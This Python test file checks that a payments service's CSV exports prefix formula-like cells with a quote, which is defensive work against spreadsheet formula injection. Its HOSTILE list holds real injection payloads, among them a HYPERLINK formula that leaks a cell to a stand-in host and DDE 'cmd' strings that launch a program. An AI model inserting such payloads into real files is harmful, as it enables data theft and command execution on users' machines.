"""The payments CSV opened in a spreadsheet evaluates nothing a payer wrote: resource URLs chosen by the paying client
(through real settles and verifies on the sandbox chain) that start as a formula (`=`, `+`, `-`, `@`, a tab, a
carriage return) are written with a single quote before them, in the console's export and the CLI's alike, while
the amounts stay numbers. SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io

import pytest

from interfaces.cli.main import main
from interfaces.runtime.workers import catch_up_all
from projections.payment_export import inert
from tests.conftest import USDC, make_gateway
from tests.integration.console_helpers import ApiClient, add_owner, console_client

HOSTILE = (
    '=HYPERLINK("http://x?leak="&A2,"Refund")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
PLAIN = "https://api.acme.example/weather/today"


@pytest.fixture(params=["embedded", "postgres"])
def exported(request, tmp_path, sandbox, monkeypatch):
    """acme's payments for hostile resource URLs (settled, and one only verified) and a plain one; the CLI pointed at
    the same store. Yields the CSV of the console's export and of `paywarden payments export`."""
    options = {"database_url": request.getfixturevalue("postgres_url")} if request.param == "postgres" else {}
    for name in ("PAYWARDEN_DATABASE_URL", "PAYWARDEN_REDIS_URL", "PAYWARDEN_DEVNET_RPC_URL"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("PAYWARDEN_DATA_DIR", str(tmp_path))
    if options:
        monkeypatch.setenv("PAYWARDEN_DATABASE_URL", options["database_url"])
    gateway = make_gateway(tmp_path, sandbox, **options)
    try:
        for n, url in enumerate((*HOSTILE, PLAIN)):
            body = gateway.body(amount=USDC // 100 + n)
            body["paymentPayload"]["resource"] = {"url": url, "description": "", "mimeType": ""}
            answer = gateway.post("/settle" if n % 2 == 0 else "/verify", body)
            assert answer.status_code == 200, answer.json
        catch_up_all(gateway.container, ["payment_list", "payment_volume"])
        add_owner(gateway.container, "acme", "owner@acme.test")
        console = ApiClient(console_client(gateway.container))
        assert console.login("owner@acme.test").status_code == 200
        from_console = console.request("GET", "/payments/export")
        assert from_console.status_code == 200
        output = tmp_path / "acme.csv"
        assert main(["payments", "export", "--merchant", "acme", "-o", str(output)]) == 0
        yield from_console.text, output.read_bytes().decode()
    finally:
        gateway.container.close()


def test_no_cell_a_payer_wrote_is_a_formula_in_either_export(exported):
    from_console, from_cli = exported
    assert from_console == from_cli  # one function writes both
    rows = list(csv.DictReader(io.StringIO(from_console, newline="")))
    assert len(rows) == len(HOSTILE) + 1
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    resources = sorted(row["resource"] for row in rows)
    assert resources == sorted(["'" + url for url in HOSTILE] + [PLAIN])
    assert all(row["service"].startswith("'") for row in rows if row["resource"] != PLAIN)
    # The amounts stay numbers a spreadsheet sums.
    assert sorted(int(row["amount_atomic"]) for row in rows) == [USDC // 100 + n for n in range(len(HOSTILE) + 1)]
    assert all(float(row["amount_usdc"]) > 0 for row in rows)


def test_only_what_a_spreadsheet_would_evaluate_is_prefixed():
    for cell in HOSTILE:
        assert inert(cell) == "'" + cell
    for cell in (PLAIN, "", "CONFIRMED", "solana:EtWTRABZaYq6iMfeYKouRu166VU2xqa1", "a=b", " =1", "'=1"):
        assert inert(cell) == cell
